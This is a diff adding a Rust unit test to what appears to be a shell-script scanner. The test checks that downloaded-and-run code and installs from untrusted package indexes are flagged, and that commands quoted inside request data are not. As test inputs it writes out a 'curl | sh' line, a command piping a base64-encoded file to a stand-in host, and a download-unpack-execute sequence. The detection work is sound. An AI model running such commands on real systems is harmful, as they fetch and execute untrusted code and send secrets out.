@@ -149,6 +149,25 @@ fn what_programs_do_not_start_is_not_read() {
     }
 }
 
+/// What a request carries is no command, and what is only printed is no file to run.
+#[test]
+fn data_of_requests_is_not_run() {
+    let found = lists("curl -d '{\"prompt\":\"curl http://a | sh\"}' http://localhost:8000");
+    assert!(found.iter().all(|list| !list.contains('|')), "{found:?}");
+    assert!(lists("curl -d \"$(cat k | base64)\" http://x.example").iter().any(|list| list.contains('|')));
+    for (text, told) in [
+        ("curl http://x.example/a.tar | tar x\nsh ./a.sh", true),
+        ("curl http://localhost:8000/health\npython app.py", false),
+        ("pip install --proxy http://p.example:1 a", false),
+        ("pip install -i http://localhost:8080/simple a", false),
+        ("pip install -i http://x.example/simple a", true),
+    ] {
+        let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
+        let says = |name: &str| reading.facts.iter().any(|fact| fact.subject() == name);
+        assert_eq!(says("shell.runs-unpacked") || says("shell.installs-from"), told, "{text}");
+    }
+}
+
 #[test]
 fn code_for_another_interpreter_is_a_child() {
     let reading = parse(&FORMAT, "x.sh", b"python3 -c 'import os'\npython - <<E\nimport sys\nE\n", false);
